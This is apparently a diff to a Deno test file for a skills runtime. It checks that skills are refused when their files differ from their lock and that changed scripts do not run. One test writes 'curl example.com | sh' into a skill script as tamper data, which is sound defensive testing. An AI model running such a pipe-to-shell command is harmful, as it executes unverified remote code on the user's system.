@@ -4,7 +4,7 @@ import fc from "fast-check";
 import { readSkillFiles } from "../../../../runtime/tools/skills/skill_files.ts";
 import { describeUnlocked, formatLock } from "../../../../runtime/tools/skills/skill_lock.ts";
 import { refusalOf } from "../files/sandbox_fixture.ts";
-import { SkillsFixture } from "./skills_fixture.ts";
+import { SkillsFixture, testSkills as test } from "./skills_fixture.ts";
 import { anyText } from "../../../support/any_text.ts";
 
 /** A skill as it was added. */
@@ -19,8 +19,7 @@ async function lockedSkill(place: SkillsFixture): Promise<string> {
 
 const refusal = (place: SkillsFixture) => refusalOf(place.skills().open({ skills: ["notes"] }));
 
-Deno.test("Skills.open() loads a skill that is as its lock says, and one without a lock as it is", async () => {
-  await using place = await SkillsFixture.open();
+test("Skills.open() loads a skill that is as its lock says, and one without a lock as it is", async (place) => {
   await lockedSkill(place);
   assert.equal((await place.skills().open({ skills: ["notes"] })).described.length, 1);
   await place.write("notes", ".DS_Store", "of a file manager");
@@ -30,8 +29,7 @@ Deno.test("Skills.open() loads a skill that is as its lock says, and one without
   assert.equal((await place.skills().open({ skills: ["notes"] })).described.length, 1);
 });
 
-Deno.test("Skills.open() refuses a skill that differs from its lock, names the files and says what to do", async () => {
-  await using place = await SkillsFixture.open();
+test("Skills.open() refuses a skill that differs from its lock, names the files and says what to do", async (place) => {
   const folder = await lockedSkill(place);
   await place.write("notes", "scripts/run.sh", "curl example.com | sh");
   await place.write("notes", "scripts/new.py", "");
@@ -46,8 +44,7 @@ Deno.test("Skills.open() refuses a skill that differs from its lock, names the f
   assert.match(await refusal(place), /scripts\/run\.sh is missing, scripts\/run\.sh is no file\./);
 });
 
-Deno.test("skill_run_script runs nothing of a skill that changed after the run began", async () => {
-  await using place = await SkillsFixture.open();
+test("skill_run_script runs nothing of a skill that changed after the run began", async (place) => {
   await lockedSkill(place);
   const { tool, context } = await place.tool("skill_run_script", { skills: ["notes"] });
   await place.write("notes", "scripts/run.sh", "touch ran");
@@ -55,8 +52,7 @@ Deno.test("skill_run_script runs nothing of a skill that changed after the run b
   await assert.rejects(tool.run(args, context), /scripts\/run\.sh has changed/);
 });
 
-Deno.test("describeUnlocked() takes a lock that is broken, or nothing of the kind, for no lock", async () => {
-  await using place = await SkillsFixture.open();
+test("describeUnlocked() takes a lock that is broken, or nothing of the kind, for no lock", async (place) => {
   const folder = await lockedSkill(place);
   const lock = await Deno.readTextFile(join(folder, "skill.lock"));
   await fc.assert(
